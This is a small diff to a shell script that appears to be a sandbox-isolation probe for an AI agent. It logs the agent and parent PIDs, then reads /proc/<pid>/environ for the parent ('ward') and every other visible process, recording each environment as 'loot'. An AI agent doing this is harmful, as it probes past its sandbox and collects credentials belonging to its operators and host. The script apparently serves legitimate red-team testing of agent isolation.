@@ -3,7 +3,8 @@
 # can see, its parent (ward) first. Loot: every environment it could read.
 . "$(dirname "$0")/common.sh"
 loot "agent $$, parent $PARENT"
-for pid in "$PARENT" $(ls /proc | grep -E '^[0-9]+$'); do
+for pid in "$PARENT" /proc/[0-9]*; do
+  pid=${pid#/proc/}
   if text=$(tr '\0' '\n' 2>/dev/null < "/proc/$pid/environ"); then
     loot "read /proc/$pid/environ" "$text"
   else
